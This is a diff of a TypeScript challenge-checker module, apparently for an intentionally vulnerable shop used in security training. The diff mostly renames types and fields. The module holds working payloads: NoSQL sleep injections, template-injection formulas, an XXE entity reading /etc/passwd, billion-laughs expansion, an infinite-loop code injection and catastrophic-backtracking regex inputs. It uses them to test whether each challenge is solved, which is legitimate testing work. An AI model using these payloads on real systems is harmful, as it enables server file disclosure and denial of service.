@@ -1,13 +1,20 @@
-import { guestForm, line } from '../../deployment/deployment.ts';
-import { asked } from './search-requests.ts';
-import { all, any, saying, type Challenge, type Shop, type Try } from './challenge.ts';
+import { guestForm, orderItem } from '../../deployment/deployment.ts';
+import { searchAttempts } from './search-requests.ts';
+import {
+  sendAllAttempts,
+  anyReply,
+  replyContains,
+  type Challenge,
+  type ChallengeContext,
+  type Attempt,
+} from './challenge.ts';
 
 /** Whether one answer took so long that the words sent must have been obeyed. */
-async function slow(shop: Shop, tries: readonly Try[]): Promise<boolean> {
+async function slow(shop: ChallengeContext, tries: readonly Attempt[]): Promise<boolean> {
   let slowest = 0;
   for (const one of tries) {
     const begun = performance.now();
-    await all(shop, [one]);
+    await sendAllAttempts(shop, [one]);
     slowest = Math.max(slowest, performance.now() - begun);
   }
   return slowest > 8_000;
@@ -19,20 +26,20 @@ const formulas = ['#{7919*7907}', '{{7919*7907}}', '${7919*7907}', '<%= 7919*790
 export const commands: readonly Challenge[] = [
   {
     name: 'NoSQL DoS',
-    tried: 'let the database sleep for ten seconds',
-    sign: 'answers that take as long',
-    solved: (shop) =>
-      slow(shop, asked(shop, ['sleep(10000)', `';sleep(10000);'`, '{"$where":"sleep(10000)"}'])),
+    attack: 'let the database sleep for ten seconds',
+    successSign: 'answers that take as long',
+    isSolved: (shop) =>
+      slow(shop, searchAttempts(shop, ['sleep(10000)', `';sleep(10000);'`, '{"$where":"sleep(10000)"}'])),
   },
   {
     name: 'SSTi',
-    tried: 'type formulas into a name, a dish and an address, and look at the pages made of them',
-    sign: 'the result of the formula',
-    solved: async (shop) => {
+    attack: 'type formulas into a name, a dish and an address, and look at the pages made of them',
+    successSign: 'the result of the formula',
+    isSolved: async (shop) => {
       const { market, chef } = shop;
       const name = formulas.join(' ');
-      const item = await market.item(chef, { name, description: name });
-      const cook = await market.chef({ name });
+      const item = await market.createProduct(chef, { name, description: name });
+      const cook = await market.createChef({ name });
       const path = encodeURIComponent(name);
       const html = { Accept: 'text/html' };
       const tries = [
@@ -40,48 +47,52 @@ export const commands: readonly Challenge[] = [
         `/chefitems/${cook._id}`,
         `/search/${path}`,
         `/?q=${path}`,
-      ].map((page): Try => ['get', page, { headers: html }]);
-      const json: Try[] = [
+      ].map((page): Attempt => ['get', page, { headers: html }]);
+      const json: Attempt[] = [
         ['get', `/api/products/${item._id}`],
         ['get', `/api/nothing/${path}`],
       ];
-      return any(shop, [...tries, ...json], saying('62615533'));
+      return anyReply(shop, [...tries, ...json], replyContains('62615533'));
     },
   },
   {
     name: 'XXE Data Access',
-    tried: 'send XML that reads a file of the server, as data and as a picture',
-    sign: 'what stands in that file',
-    solved: (shop) =>
-      any(shop, xml(shop, entity('<!ENTITY x SYSTEM "file:///etc/passwd">')), saying(/root:.*:0:0/)),
+    attack: 'send XML that reads a file of the server, as data and as a picture',
+    successSign: 'what stands in that file',
+    isSolved: (shop) =>
+      anyReply(
+        shop,
+        xml(shop, entity('<!ENTITY x SYSTEM "file:///etc/passwd">')),
+        replyContains(/root:.*:0:0/),
+      ),
   },
   {
     name: 'XXE DoS',
-    tried: 'send XML whose words unfold a billion times',
-    sign: 'answers that take long',
-    solved: (shop) => {
+    attack: 'send XML whose words unfold a billion times',
+    successSign: 'answers that take long',
+    isSolved: (shop) => {
       const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
       return slow(shop, xml(shop, entity(`<!ENTITY e0 "ha">${laughs.join('')}<!ENTITY x "&e9;">`)));
     },
   },
   {
     name: 'Blocked RCE DoS',
-    tried: 'send code that never ends wherever an order takes words',
-    sign: 'answers that take long',
-    solved: (shop) => slow(shop, code(shop, '(function forever(){while(true);})()')),
+    attack: 'send code that never ends wherever an order takes words',
+    successSign: 'answers that take long',
+    isSolved: (shop) => slow(shop, code(shop, '(function forever(){while(true);})()')),
   },
   {
     name: 'Successful RCE DoS',
-    tried: 'send patterns and words that a careless check chews on for ages',
-    sign: 'answers that take long',
-    solved: (shop) => {
+    attack: 'send patterns and words that a careless check chews on for ages',
+    successSign: 'answers that take long',
+    isSolved: (shop) => {
       const chewy = [
         '/((a+)+)b/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")',
         `${'a'.repeat(180)}!`,
         '(a+)+$',
         ' '.repeat(190),
       ];
-      return slow(shop, [...chewy.flatMap((words) => code(shop, words)), ...asked(shop, chewy)]);
+      return slow(shop, [...chewy.flatMap((words) => code(shop, words)), ...searchAttempts(shop, chewy)]);
     },
   },
 ];
@@ -89,7 +100,7 @@ export const commands: readonly Challenge[] = [
 const entity = (definitions: string) =>
   `<?xml version="1.0"?><!DOCTYPE svg [${definitions}]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`;
 
-function xml({ chef }: Shop, document: string): Try[] {
+function xml({ chef }: ChallengeContext, document: string): Attempt[] {
   const { token } = chef;
   const types = ['application/xml', 'text/xml', 'image/svg+xml', 'application/json'];
   const paths = [
@@ -101,13 +112,17 @@ function xml({ chef }: Shop, document: string): Try[] {
     '/b2b/v2/orders',
   ];
   return paths.flatMap((path) =>
-    types.map((type): Try => ['post', path, { body: document, token, headers: { 'Content-Type': type } }]),
+    types.map((type): Attempt => [
+      'post',
+      path,
+      { body: document, token, headers: { 'Content-Type': type } },
+    ]),
   );
 }
 
-function code({ item, thief }: Shop, words: string): Try[] {
+function code({ item, thief }: ChallengeContext, words: string): Attempt[] {
   const { token } = thief;
-  const form = guestForm([{ ...line(item), qty: words }], {
+  const form = guestForm([{ ...orderItem(item), qty: words }], {
     userName: words,
     userEmail: words,
     customerPhone: words,
